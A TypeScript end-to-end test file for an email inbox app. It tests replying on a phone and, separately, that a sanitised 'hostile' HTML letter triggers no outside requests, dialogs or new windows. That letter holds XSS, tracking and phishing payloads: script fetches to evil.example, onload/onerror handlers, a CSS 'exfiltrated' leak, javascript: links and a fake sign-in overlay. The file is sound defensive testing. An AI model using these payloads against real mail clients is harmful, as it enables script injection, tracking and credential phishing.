/** On a phone without scripts: read what came back, note it, answer, and see the answer leave for real. */
import { eq } from "drizzle-orm";
import type { Page } from "playwright-core";
import { expect, test } from "vitest";
import { config } from "#app/config.server.ts";
import { now } from "#app/core/clock.ts";
import { newId } from "#app/core/id.ts";
import { cleanHtml } from "#app/incoming/parse.server.ts";
import { inTeam } from "#db/client.ts";
import { messages, quarantined, readings } from "#db/schema/conversations.ts";
import { mailboxes } from "#db/schema/mailboxes.ts";
import { desk, expectAccessible, expectFits, phone, picture } from "#tests/support/browser.ts";
import { aConversation } from "#tests/support/inbox.ts";
import { runJobs } from "#tests/support/jobs.ts";
import { aMember, type Person } from "#tests/support/people.ts";
import { aSink } from "#tests/support/sink.ts";
import { signedIn } from "#tests/support/visitor.ts";

test("a reply is read, noted, answered, and the answer arrives", async () => {
  const ada = await aMember();
  await aMember({ name: "Cleo Marsh", role: "member", team: ada.team });
  const sink = await aSink();
  const came = { says: "Yes, do ask.\nBut on Friday.", html: "<h1>Yes</h1>" };
  const { mailbox } = await aConversation(ada, { smtp: { port: sink.port }, came });
  const page = await phone();
  await signIn(page, ada);

  await page.goto("/inbox");
  await picture(page, "inbox");
  await expectFits(page);
  await expectAccessible(page);
  await page.getByRole("link", { name: /Nora Quist/ }).click();
  expect(await page.getByText("But on Friday.").first().isVisible()).toBe(true);
  await page.getByText("The whole message, with what it quotes").click();
  await picture(page, "thread");
  await expectFits(page);
  await expectAccessible(page);

  await page.getByLabel("Note").fill("Prefers Fridays.");
  await page.getByRole("button", { name: "Write the note" }).click();
  await picture(page, "noted");
  expect(await page.getByText("Prefers Fridays.").isVisible()).toBe(true);
  await page.locator("textarea[name=answer]").fill("Friday it is.\n\nAda");
  await page.getByRole("button", { name: "Send the answer" }).click();
  expect(await page.getByText("Waiting to go out").isVisible()).toBe(true);
  await picture(page, "waiting");
  await runJobs();
  await page.reload();

  expect(await page.getByText("Your team answered").isVisible()).toBe(true);
  expect(await page.getByText("Waiting to go out").count()).toBe(0);
  await picture(page, "answered");
  expect(sink.accepted.map(({ to }) => to)).toEqual([["nora@buyer.example"]]);
  await inTeam(ada.member, async (tx) => {
    const lying = { teamId: ada.team.id, mailboxId: mailbox.id, folder: "inbox", validity: "1" };
    const [big, deep] = [
      { uid: 1, reason: "too-big" },
      { uid: 2, reason: "too-deep" },
    ];
    await tx.insert(readings).values({ ...lying, lastUid: 2 });
    await tx.insert(quarantined).values({ ...lying, ...big, bytes: 48_000_000, at: now() });
    await tx.insert(quarantined).values({ ...lying, ...deep, bytes: 9_000, at: now() });
    await tx.update(mailboxes).set({ reading: "on" }).where(eq(mailboxes.id, mailbox.id));
  });
  await page.goto(`/mailboxes/${mailbox.id}`);
  await page.getByRole("link", { name: "2 messages not read" }).click();
  await picture(page, "put-aside");
  await expectFits(page);
  await expectAccessible(page);
  await page.getByRole("button", { name: "Forget it" }).first().click();
  expect(await page.getByRole("button", { name: "Forget it" }).count()).toBe(1);
  await page.goto(`/mailboxes/${mailbox.id}/sharing`);
  await page.getByText("Everybody in the team").click();
  await page.getByRole("button", { name: "Keep this" }).click();
  await picture(page, "sharing");
  await expectFits(page);
  await expectAccessible(page);
  await sink.close();
});

const evil = "https://evil.example";

/** All that a letter may try, where it is shown by a browser that runs scripts. */
const hostile = `
<base href="${evil}/"><meta http-equiv="refresh" content="0;url=${evil}/refreshed">
<link rel="stylesheet" href="${evil}/style.css"><link rel="prefetch" href="${evil}/prefetched">
<style>@import url("${evil}/imported.css");
  @font-face { font-family: leak; src: url("${evil}/font.woff2"); } body { font-family: leak; }
  a[href^="https"] { background: url("${evil}/exfiltrated"); } body::after { content: url(${evil}/after); }
</style>
<script>alert(1); parent.location = "${evil}/script"; fetch("${evil}/fetched");</script>
<svg onload="alert(2)"><image href="${evil}/svg.png"/><use href="${evil}/use.svg#x"/></svg>
<p>Readable words, <b>in bold</b>.</p>
<img src="${evil}/pixel.gif" width="1" height="1" onerror="alert(3)">
<img srcset="${evil}/set.png 2x" src="data:image/gif;base64,AAAA" onload="alert(4)">
<video src="${evil}/film.mp4" poster="${evil}/poster.png" autoplay></video><audio src="${evil}/a.mp3" autoplay></audio>
<iframe src="${evil}/nested"></iframe><iframe srcdoc="<script>parent.alert(5)</script><img src='${evil}/deep.png'>"></iframe>
<object data="${evil}/object"></object><embed src="${evil}/embed">
<form action="${evil}/posted" method="post"><input name="q" value="secret" autofocus onfocus="alert(6)"><button>Send the answer</button></form>
<div style="position:fixed;inset:0;z-index:2147483647;background:url(${evil}/overlay.png)">Sign in again</div>
<a href="javascript:alert(7)">Script</a> <a href="data:text/html,<script>alert(8)</script>">Data</a>
<a href="${evil}/top" target="_top">Away</a> <a href="${evil}/followed">Follow</a>
<table width="4000"><tr><td background="${evil}/cell.png"></td>${"<td nowrap>A wide cell of a table</td>".repeat(60)}</tr></table>
<p>${"unbroken".repeat(80)}</p>`;

test("a hostile letter reaches nobody, moves nothing and covers nothing", async () => {
  const ada = await aMember();
  // As it would be had it passed the cleaning, and as it is kept.
  const { threadId } = await aConversation(ada, { came: { html: hostile } });
  await inTeam(ada.member, (tx) =>
    tx.insert(messages).values({
      ...{ id: newId(), teamId: ada.team.id, threadId, kind: "reply", at: now() },
      ...{ messageId: "<clean@buyer.example>", fromAddress: "nora@buyer.example" },
      ...{ visible: "Cleaned.", text: "Cleaned.", html: cleanHtml(hostile) },
    }),
  );
  const page = await desk();
  await signIn(page, ada);
  const seen = await watch(page);

  await page.goto(`/inbox/${threadId}`);
  const here = page.url();
  for (const each of await page.getByText("As it was formatted, without pictures").all()) {
    await each.click();
  }
  const frames = page.locator("iframe");
  for (const width of [1280, 390]) {
    await page.setViewportSize({ width, height: 844 });
    for (const n of [0, 1]) {
      const words = frames.nth(n).contentFrame().getByText("Readable words");
      await frames.nth(n).scrollIntoViewIfNeeded();
      await words.waitFor();
      const box = (await words.boundingBox())!;
      expect(box.x + box.width).toBeLessThanOrEqual(width);
      expect(box.height).toBeGreaterThan(15);
    }
    await expectFits(page);
    await picture(page, `hostile-${width}`);
  }
  for (const n of [0, 1]) {
    for (const name of ["Script", "Away", "Follow"]) {
      const link = frames.nth(n).contentFrame().getByText(name, { exact: true });
      await link.dispatchEvent("click");
    }
  }
  await page.getByLabel(/^To nora@buyer/).fill("Thank you.");
  await page.getByRole("button", { name: "Mark as read" }).click();

  expect(await page.getByText("Marked as read").isVisible()).toBe(true);
  expect(page.url()).toBe(here);
  expect(seen).toEqual({ elsewhere: [], dialogs: [], pages: [] });
});

async function signIn(page: Page, person: Person): Promise<void> {
  const cookies = [...(await signedIn(person)).jar];
  const own = cookies.map(([name, value]) => ({ name, value, url: config.baseUrl }));
  await page.context().addCookies(own);
}

/** Every request that would leave for another host, every dialog and every window that opens. */
async function watch(page: Page) {
  const seen = { elsewhere: [] as string[], dialogs: [] as string[], pages: [] as string[] };
  const { host } = new URL(config.baseUrl);
  const isElsewhere = (url: URL) => url.host !== host;
  await page.context().route(isElsewhere, (route) => {
    seen.elsewhere.push(route.request().url());
    return route.abort();
  });
  page.context().on("page", (other) => seen.pages.push(other.url()));
  page.on("dialog", (dialog) => {
    seen.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  return seen;
}
